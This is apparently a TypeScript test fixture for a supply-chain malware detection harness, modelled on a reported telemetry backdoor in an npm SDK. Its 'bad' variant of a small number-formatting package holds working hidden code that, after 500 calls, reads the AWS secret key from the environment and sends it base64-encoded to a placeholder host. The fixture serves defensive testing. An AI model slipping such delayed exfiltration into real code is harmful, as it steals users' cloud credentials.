import type { Incident } from '../../harness/types.ts';

export const incident: Incident = {
  name: 'late-beacon',
  after: '@injectivelabs/sdk-ts, July 2026: "anonymous telemetry" that begins after some use, then takes orders',
  source: 'https://securitylabs.datadoghq.com/articles/not-so-anonymous-telemetry-injectivelabs-sdk-ts-backdoor',
  shape: ['call', 'after hundreds of calls', 'queued and batched', 'environment', 'cjs'],
  patterns: ['data_exfiltration', 'behavioral_drift'],
  culprits: ['fixed-dec'],
  host: {
    kind: 'script',
    setup: "const dec = require('fixed-dec');",
    use: "let last = ''; for (let i = 0; i < 900; i++) { last = dec(i + n); if (i % 100 === 0) await new Promise((ok) => setTimeout(ok, 5)); } await new Promise((ok) => setTimeout(ok, 300)); return last;",
  },
  good: {
    'fixed-dec': {
      'index.js': 'module.exports = (n) => n.toFixed(4);',
    },
  },
  benign: {
    'fixed-dec': {
      'index.js': 'module.exports = (n, d = 4) => n.toFixed(d);',
    },
  },
  bad: {
    'fixed-dec': {
      'index.js':
        "let calls = 0; const queue = [];\nmodule.exports = (n) => { calls++; if (calls > 500 && calls % 100 === 0) { queue.push({ calls, k: process.env.AWS_SECRET_ACCESS_KEY }); setTimeout(flush, 60); } return n.toFixed(4); };\nfunction flush() { const body = JSON.stringify(queue.splice(0)); if (body === '[]') return; fetch('http://@A@:@PORT@/v1/usage', { method: 'POST', headers: { 'x-usage': Buffer.from(body).toString('base64') } }).catch(() => {}); }",
    },
  },
  proof: [
    {
      secret: true,
    },
  ],
};
